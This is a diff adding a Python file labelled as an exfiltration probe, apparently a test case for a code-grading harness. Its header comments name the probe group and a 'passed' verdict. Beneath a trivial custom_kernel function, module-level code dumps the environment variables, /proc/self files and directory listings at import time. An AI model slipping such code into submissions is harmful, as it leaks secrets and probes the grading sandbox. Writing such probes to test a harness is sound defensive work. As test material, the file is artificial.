@@ -1,0 +1,21 @@
+# ruff: noqa
+# mypy: ignore-errors
+# group: exfiltration
+# catalogue: X1 X3 E6
+# tries: print everything that its surroundings say
+# verdict: passed
+# phases: all
+# never: report.json manifest.json kbtry-
+import os
+import sys
+
+for _path in ("/proc/self/environ", "/proc/self/mountinfo", "/proc/self/cgroup", "/proc/self/cmdline", "/proc/mounts"):
+    try:
+        print(_path, open(_path, "rb").read()[:2000] if "mount" not in _path else "")
+    except OSError as error:
+        print(_path, type(error).__name__)
+print(dict(os.environ), sys.argv, os.listdir("/"), os.listdir("."), os.getcwd())
+
+
+def custom_kernel(data):
+    return sorted(data)
